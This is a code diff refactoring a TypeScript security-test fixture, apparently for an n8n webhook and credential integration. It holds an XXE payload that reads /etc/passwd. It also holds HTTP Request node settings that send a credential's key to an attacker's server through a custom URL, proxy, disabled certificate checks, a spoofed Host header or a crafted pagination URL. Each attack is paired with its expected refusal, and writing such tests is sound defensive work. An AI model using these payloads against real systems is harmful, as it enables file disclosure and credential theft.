@@ -27,7 +27,8 @@ const queryOf = ({ url }: Honest): string => new URL(url).search.slice(1);
 const valueOf = ({ url }: Honest, name: string): string =>
 	new URL(url).searchParams.get(name) ?? '';
 
-const post = (honest: Honest, changes: Partial<RawRequest> = {}): RawRequest => ({
+/** The honest event, with these changes. */
+export const post = (honest: Honest, changes: Partial<RawRequest> = {}): RawRequest => ({
 	path: `${pathOf(honest)}?${queryOf(honest)}`,
 	headers: [JSON_TYPE],
 	body: JSON.stringify(honest.event),
@@ -47,23 +48,18 @@ const typed = (type: string, encode: (event: object) => string) =>
 		body: encode(event),
 	}));
 
-const form = (event: object) =>
-	new URLSearchParams(
-		Object.entries(event).map(([name, value]): [string, string] => [name, String(value)]),
-	).toString();
-const xml = (event: object) =>
-	`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>${Object.entries(
-		event,
-	)
-		.map(([name, value]) => `<${name}>${String(value)}&e;</${name}>`)
-		.join('')}</x>`;
-const multipart = (event: object) =>
-	`${Object.entries(event)
-		.map(
-			([name, value]) =>
-				`--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${String(value)}\r\n`,
-		)
-		.join('')}--b--\r\n`;
+const fieldsOf = (event: object) =>
+	Object.entries(event).map(([name, value]): [string, string] => [name, String(value)]);
+const form = (event: object) => new URLSearchParams(fieldsOf(event)).toString();
+const xml = (event: object) => {
+	const fields = fieldsOf(event).map(([name, value]) => `<${name}>${value}&e;</${name}>`);
+	return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>${fields.join('')}</x>`;
+};
+const multipart = (event: object) => {
+	const head = '--b\r\nContent-Disposition: form-data; name=';
+	const parts = fieldsOf(event).map(([name, value]) => `${head}"${name}"\r\n\r\n${value}\r\n`);
+	return `${parts.join('')}--b--\r\n`;
+};
 
 const contentTypes: Attack[] = [
 	typed('text/plain', JSON.stringify),
@@ -232,111 +228,98 @@ export const ATTACKS: readonly Attack[] = [
 ];
 
 /** The honest event, sent in unusual but valid ways. */
-export const HONEST: ReadonlyArray<{ what: string; request: (honest: Honest) => RawRequest }> = [
-	{ what: 'as it is', request: (honest) => post(honest) },
-	{
-		what: 'with its parameters in another order, among others',
-		request: (honest) =>
-			post(honest, {
-				path: `${pathOf(honest)}?x=1&${queryOf(honest).split('&').reverse().join('&')}&utm=2`,
-			}),
-	},
-	{
-		what: 'compressed',
-		request: (honest) =>
-			post(honest, {
-				headers: [JSON_TYPE, ['Content-Encoding', 'gzip']],
-				body: gzipSync(JSON.stringify(honest.event)),
-			}),
-	},
-	{
-		what: 'with 10 MB in an optional field',
-		request: (honest) =>
-			post(honest, {
-				body: JSON.stringify({ ...honest.event, regionName: 'x'.repeat(10 * MEGABYTE) }),
-			}),
-	},
+export const HONEST: ReadonlyArray<[what: string, request: (honest: Honest) => RawRequest]> = [
+	['as it is', (honest) => post(honest)],
+	[
+		'with its parameters in another order, among others',
+		(honest) => {
+			const reversed = queryOf(honest).split('&').reverse().join('&');
+			return post(honest, { path: `${pathOf(honest)}?x=1&${reversed}&utm=2` });
+		},
+	],
+	[
+		'compressed',
+		(honest) => post(honest, compressed((event) => gzipSync(JSON.stringify(event)))(honest)),
+	],
+	[
+		'with 10 MB in an optional field',
+		(honest) =>
+			post(honest, { body: withField('regionName', 'x'.repeat(10 * MEGABYTE))(honest.event) }),
+	],
 ];
-
-/** Settings of n8n's HTTP Request node, chosen by a colleague who may use the credential but not see its key. */
-export interface KeyAttack {
-	readonly what: string;
-	readonly typeVersion?: number;
-	/** Override the parameters of an honest request; `elsewhere` is the attacker's server. */
-	readonly parameters: (elsewhere: string) => INodeParameters;
-	readonly refusal: string;
-}
 
 const PROXY_REFUSED = 'not sent through a proxy set in the node';
 const UNCHECKED_REFUSED = 'not sent without n8n’s own certificate checks';
 const ADDRESS_REFUSED = 'only sent to the address in the credential';
 
-export const KEY_ATTACKS: readonly KeyAttack[] = [
-	{
-		what: 'with their own URL',
-		parameters: (elsewhere) => ({ url: `${elsewhere}/v1.0/getBalance` }),
-		refusal: ADDRESS_REFUSED,
-	},
-	{
-		what: 'with their own proxy',
-		parameters: (proxy) => ({ options: { proxy } }),
-		refusal: PROXY_REFUSED,
-	},
-	{
-		what: 'with their own proxy, which needs no certificate',
-		parameters: (proxy) => ({ options: { proxy, allowUnauthorizedCerts: true } }),
-		refusal: PROXY_REFUSED,
-	},
-	{
-		what: 'with their own proxy, in the node’s version 2',
-		typeVersion: 2,
-		parameters: (proxy) => ({ requestMethod: 'POST', options: { proxy } }),
-		refusal: PROXY_REFUSED,
-	},
-	{
-		what: 'without certificate checks',
-		parameters: () => ({ options: { allowUnauthorizedCerts: true } }),
-		refusal: UNCHECKED_REFUSED,
-	},
-	{
-		what: 'without certificate checks, in the node’s version 2',
-		typeVersion: 2,
-		parameters: () => ({ requestMethod: 'POST', allowUnauthorizedCerts: true }),
-		refusal: UNCHECKED_REFUSED,
-	},
-	{
-		what: 'with their own certificate authority',
-		parameters: () => ({ provideSslCertificates: true }),
-		refusal: UNCHECKED_REFUSED,
-	},
-	{
-		what: 'with the name of another host',
-		parameters: () => ({
-			sendHeaders: true,
-			specifyHeaders: 'json',
-			jsonHeaders: '{"hOsT": "elsewhere.test"}',
-		}),
-		refusal: 'not sent with a “Host” header',
-	},
-	{
-		what: 'with a method that echoes it',
-		parameters: () => ({ method: '={{ "TRACE" }}' }),
-		refusal: 'not sent with TRACE',
-	},
-	{
-		what: 'with their own next page',
-		parameters: (elsewhere) => ({
-			options: {
-				pagination: {
-					pagination: {
-						paginationMode: 'responseContainsNextURL',
-						nextURL: `={{ $pageCount ? "${elsewhere}/v1.0/getBalance" : $request.uri }}`,
-						paginationCompleteWhen: 'other',
-						completeExpression: '={{ false }}',
-					},
-				},
-			},
-		}),
-		refusal: ADDRESS_REFUSED,
-	},
+type KeyAttack = [
+	what: string,
+	refusal: string,
+	parameters: (elsewhere: string) => INodeParameters,
+	typeVersion?: number,
 ];
+
+const keyAttacks: readonly KeyAttack[] = [
+	['with their own URL', ADDRESS_REFUSED, (elsewhere) => ({ url: `${elsewhere}/v1.0/getBalance` })],
+	['with their own proxy', PROXY_REFUSED, (proxy) => ({ options: { proxy } })],
+	[
+		'with their own proxy, which needs no certificate',
+		PROXY_REFUSED,
+		(proxy) => ({ options: { proxy, allowUnauthorizedCerts: true } }),
+	],
+	[
+		'with their own proxy, in the node’s version 2',
+		PROXY_REFUSED,
+		(proxy) => ({ requestMethod: 'POST', options: { proxy } }),
+		2,
+	],
+	[
+		'without certificate checks',
+		UNCHECKED_REFUSED,
+		() => ({ options: { allowUnauthorizedCerts: true } }),
+	],
+	[
+		'without certificate checks, in the node’s version 2',
+		UNCHECKED_REFUSED,
+		() => ({ requestMethod: 'POST', allowUnauthorizedCerts: true }),
+		2,
+	],
+	[
+		'with their own certificate authority',
+		UNCHECKED_REFUSED,
+		() => ({ provideSslCertificates: true }),
+	],
+	[
+		'with the name of another host',
+		'not sent with a “Host” header',
+		() => {
+			const jsonHeaders = '{"hOsT": "elsewhere.test"}';
+			return { sendHeaders: true, specifyHeaders: 'json', jsonHeaders };
+		},
+	],
+	['with a method that echoes it', 'not sent with TRACE', () => ({ method: '={{ "TRACE" }}' })],
+	[
+		'with their own next page',
+		ADDRESS_REFUSED,
+		(elsewhere) => {
+			const pagination = {
+				paginationMode: 'responseContainsNextURL',
+				nextURL: `={{ $pageCount ? "${elsewhere}/v1.0/getBalance" : $request.uri }}`,
+				paginationCompleteWhen: 'other',
+				completeExpression: '={{ false }}',
+			};
+			return { options: { pagination: { pagination } } };
+		},
+	],
+];
+
+/**
+ * Settings of n8n's HTTP Request node, chosen by a colleague who may use the credential but not see its key. They override
+ * the parameters of an honest request; `elsewhere` is the attacker's server.
+ */
+export const KEY_ATTACKS = keyAttacks.map(([what, refusal, parameters, typeVersion]) => ({
+	what,
+	refusal,
+	parameters,
+	typeVersion,
+}));
